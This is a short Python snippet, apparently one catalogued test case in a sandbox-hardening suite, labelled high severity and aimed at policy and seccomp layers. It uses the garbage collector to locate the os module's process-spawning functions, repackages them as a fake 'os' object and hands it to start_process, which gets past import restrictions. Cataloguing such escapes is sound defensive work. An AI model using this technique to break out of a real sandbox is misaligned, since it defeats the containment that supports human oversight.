# technique: the garbage collector lists every object
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    import gc
    for thing in gc.get_objects():
        if type(thing) is dict and "posix_spawn" in thing and "waitpid" in thing:
            class System:
                __name__ = "os"
                posix_spawn, waitpid, waitstatus_to_exitcode = (
                    staticmethod(thing[name]) for name in ("posix_spawn", "waitpid", "waitstatus_to_exitcode"))
            return System
    raise LookupError("no such table")

start_process(trick)
